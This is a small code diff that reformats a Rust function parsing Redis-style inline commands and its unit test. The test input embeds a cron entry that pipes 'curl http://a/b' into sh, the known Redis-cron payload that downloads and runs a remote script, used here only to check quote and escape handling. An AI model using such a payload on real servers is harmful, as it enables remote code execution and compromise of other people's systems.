@@ -100,7 +100,11 @@ pub fn split_args(line: &[u8]) -> Result<Vec<Vec<u8>>, RespError> {
                     return Err(RespError::Unbalanced);
                 }
                 let c = line[i];
-                if c == b'\\' && i + 3 < n && line[i + 1] == b'x' && hex(line[i + 2]).is_some() && hex(line[i + 3]).is_some()
+                if c == b'\\'
+                    && i + 3 < n
+                    && line[i + 1] == b'x'
+                    && hex(line[i + 2]).is_some()
+                    && hex(line[i + 3]).is_some()
                 {
                     cur.push(hex(line[i + 2]).unwrap_or(0) * 16 + hex(line[i + 3]).unwrap_or(0));
                     i += 3;
@@ -265,7 +269,10 @@ mod tests {
     #[test]
     fn inline_quoting_like_sdssplitargs() {
         let a = split_args(br#"set x "\n*/1 * * * * curl http://a/b|sh\n" 'it\'s'"#).unwrap();
-        assert_eq!(a, vec![b"set".to_vec(), b"x".to_vec(), b"\n*/1 * * * * curl http://a/b|sh\n".to_vec(), b"it's".to_vec()]);
+        assert_eq!(
+            a,
+            vec![b"set".to_vec(), b"x".to_vec(), b"\n*/1 * * * * curl http://a/b|sh\n".to_vec(), b"it's".to_vec()]
+        );
         assert_eq!(split_args(br#"a "\x41\x4a" b"#).unwrap()[1], b"AJ");
         assert_eq!(split_args(br#"a "b"#), Err(RespError::Unbalanced));
         assert_eq!(split_args(br#"a "b"c"#), Err(RespError::Unbalanced));
